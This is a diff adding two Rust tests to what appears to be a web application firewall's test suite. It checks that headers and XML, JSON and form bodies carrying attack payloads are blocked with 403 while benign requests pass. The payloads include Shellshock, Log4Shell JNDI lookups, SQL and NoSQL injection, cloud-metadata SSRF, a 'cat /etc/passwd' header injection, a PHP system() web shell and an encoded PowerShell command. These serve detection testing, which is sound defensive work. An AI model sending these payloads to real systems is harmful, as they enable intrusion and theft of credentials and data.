@@ -262,6 +262,93 @@ fn header_and_cookie_values_with_non_ascii_bytes_are_inspected() {
 }
 
 #[test]
+fn every_header_is_inspected_also_those_removed_before_forwarding() {
+    let (_up, gw) = body_gateway();
+    let get = |headers: &str| {
+        let req = format!("GET / HTTP/1.1\r\nHost: a\r\n{headers}\r\n");
+        status_of(&raw(gw.listen, req.as_bytes()))
+    };
+    for h in [
+        "User-Agent: () { :; }; /bin/bash -c 'id'\r\n",
+        "Referer: https://shop.example/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E\r\n",
+        "Authorization: Bearer ${jndi:ldap://x.example/a}\r\n",
+        "X-Api-Version: ${${lower:j}ndi:${lower:l}dap://x.example/a}\r\n",
+        "Accept-Language: en;q=0.9, ' UNION SELECT password FROM users--\r\n",
+        // Untrusted peers' X-Forwarded-Host and X-Original-URL are removed before forwarding,
+        // and still inspected: whoever sends a payload there is attacking.
+        "X-Forwarded-Host: ') or true--\r\n",
+        "X-Original-URL: http://169.254.169.254/latest/meta-data/\r\n",
+        "True-Client-IP: ;cat /etc/passwd\r\n",
+    ] {
+        assert_eq!(get(h), 403, "{h}");
+    }
+    // A browser on a developer's machine: its Referer names localhost, and that is no SSRF.
+    assert_eq!(get("Referer: http://localhost:3000/checkout?step=2\r\n"), 200);
+    assert_eq!(get("X-Forwarded-Host: shop.example.com\r\n"), 200);
+}
+
+#[test]
+fn xml_and_the_new_classes_are_inspected_end_to_end() {
+    let (_up, gw) = body_gateway();
+    let send = |ct: &str, body: &str| status_of(&post(&gw, "/", &format!("Content-Type: {ct}\r\n"), body.as_bytes()));
+    // Split across CDATA sections, as a SOAP client may send it: the parser joins them.
+    let soap = "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>\
+                <Find><q><![CDATA[1' OR]]><![CDATA[ '1'='1]]></q></Find></soap:Body></soap:Envelope>";
+    assert_eq!(send("application/soap+xml", soap), 403);
+    assert_eq!(
+        send(
+            "text/xml",
+            "<m><java.lang.ProcessBuilder><command/></java.lang.ProcessBuilder></m>"
+        ),
+        403
+    );
+    assert_eq!(
+        send("application/json", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#),
+        403
+    );
+    assert_eq!(
+        send(
+            "application/json",
+            r#"{"page":{"template":"http://198.51.100.7/shell.txt?"}}"#
+        ),
+        403
+    );
+    assert_eq!(
+        send(
+            "application/json",
+            r#"{"webhook":"http://[::ffff:a9fe:a9fe]/latest/meta-data/"}"#
+        ),
+        403
+    );
+    assert_eq!(
+        send(
+            "application/x-www-form-urlencoded",
+            "x=%3C%3Fphp+system%28%24_GET%5Bc%5D%29%3B"
+        ),
+        403
+    );
+    assert_eq!(
+        send(
+            "application/x-www-form-urlencoded",
+            "host=8.8.8.8%26%26powershell+-enc+SQBFAFgA"
+        ),
+        403
+    );
+    // Benign business documents pass.
+    let plist = "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \
+                 \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist><dict><key>Name</key>\
+                 <string>L'Oréal Paris</string></dict></plist>";
+    assert_eq!(send("application/xml", plist), 200);
+    assert_eq!(
+        send(
+            "application/json",
+            r#"{"page":"https://docs.example.com/guide","note":"O'Brien; drop by at 5"}"#
+        ),
+        200
+    );
+}
+
+#[test]
 fn bodies_are_inspected_as_what_they_are_whatever_their_type() {
     let (up, gw) = body_gateway();
     let json = format!(r#"  {{"user":{{"q":"{SQLI}"}}}}"#);
